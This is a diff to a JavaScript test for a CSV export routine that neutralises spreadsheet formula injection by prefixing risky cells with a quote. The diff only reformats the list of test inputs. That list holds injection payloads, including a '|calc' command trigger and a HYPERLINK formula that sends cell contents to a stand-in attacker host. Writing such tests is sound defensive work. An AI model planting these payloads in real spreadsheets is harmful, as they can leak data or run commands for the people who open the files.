@@ -30,8 +30,21 @@ describe("a file for spreadsheets", () => {
 
   it("takes the edge off formulas, and leaves numbers alone", () => {
     for (const text of [
-      ...["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "|calc", "%0A"],
-      ...["＝1", "＋1", "－1", "＠A", '=HYPERLINK("http://evil.example?"&A1)'],
+      "=1+1",
+      "+1",
+      "-1",
+      "@SUM(A1)",
+      "\t=1",
+      "\r=1",
+      " =1",
+      "\n=1",
+      "|calc",
+      "%0A",
+      "＝1",
+      "＋1",
+      "－1",
+      "＠A",
+      '=HYPERLINK("http://evil.example?"&A1)',
     ]) {
       const [[cell = ""] = []] = parse(csvOf([[text]]));
       expect(cell).toBe(`'${text}`);
